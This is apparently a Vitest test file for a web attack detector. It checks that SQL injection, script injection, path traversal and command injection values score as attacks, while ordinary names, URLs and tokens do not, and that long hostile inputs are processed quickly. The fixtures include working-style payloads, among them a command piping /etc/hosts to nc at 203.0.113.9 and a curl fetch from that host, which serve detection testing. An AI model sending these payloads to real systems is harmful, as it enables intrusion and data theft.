import { describe, expect, it } from 'vitest';
import { ATTACK, judgeValue } from '../../../engine/hunt/web/attack.js';
import { normalise } from '../../../engine/hunt/web/normalise.js';

describe('values of web requests', () => {
  it.each([
    ["1' OR '1'='1' --", 'sql injection'],
    ['1%2527%20uNiOn%2f%2a%2a%2fSeLeCt%20pass%20from%20users', 'sql injection'],
    ['1; waitfor delay "0:0:9"--', 'sql injection'],
    ['<svg/onload=alert(1)>', 'script injection'],
    ['&#x3c;script&#x3e;document.cookie', 'script injection'],
    ['..%252f..%252fetc%252fpasswd', 'path traversal'],
    ['; cat /etc/hosts | nc 203.0.113.9 80', 'command injection'],
    ['$(curl http://203.0.113.9/a)', 'command injection'],
  ])('%s is %s', (value, kind) => {
    const judged = judgeValue(value);
    expect(judged.score).toBeGreaterThan(ATTACK);
    expect(judged.tokens.length).toBeGreaterThan(0);
    if (!value.includes('hosts')) expect(judged.kind).toBe(kind);
  });

  it.each([
    "d'angelo o'neil",
    'select a table from our range and order online',
    'c/ mayor 5, 3-b',
    'https://www.example.org/a/b.html?x=1',
    '2026-01-05T10:00:00+01:00',
    'drop off the union letter',
    'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N',
    'ana.silva@example.com',
    '/static/js/app.9f3c.js',
    '50% off (today only)',
  ])('%s is ordinary', (value) => {
    expect(judgeValue(value).score).toBeLessThan(ATTACK);
  });

  it('counts layers of encoding, and stops', () => {
    expect(normalise('%252525252541').layers).toBeLessThanOrEqual(4);
    expect(normalise('%25%32%37').text).toBe("'");
  });

  it('takes no time for what is long and hostile', () => {
    const began = process.cpuUsage();
    for (const text of [
      "'".repeat(1e5),
      '%25'.repeat(1e5),
      'select '.repeat(1e5),
      '<'.repeat(1e5),
      '../'.repeat(1e5),
      '/*'.repeat(1e5),
      'union '.repeat(1e5),
    ])
      judgeValue(text);
    expect(process.cpuUsage(began).user / 1000).toBeLessThan(500);
  });
});
